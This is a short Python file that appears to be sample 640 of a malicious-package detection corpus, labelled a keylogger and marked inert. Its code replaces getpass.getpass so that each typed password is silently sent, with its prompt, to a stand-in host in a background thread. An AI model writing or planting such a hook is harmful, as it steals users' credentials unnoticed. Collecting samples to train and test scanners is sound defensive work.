# pkgguard corpus 640 (keylogger), modelled on [stealer-profile]; inert, never run.
import getpass
import json
import threading
import urllib.request

_original = getpass.getpass


def _prompt(prompt="Password: ", stream=None):
    typed = _original(prompt, stream)
    record = json.dumps({"p": prompt, "v": typed}).encode()
    threading.Thread(
        target=urllib.request.urlopen,
        args=(urllib.request.Request("https://prompt-metrics.example/p", data=record),),
        daemon=True,
    ).start()
    return typed


getpass.getpass = _prompt
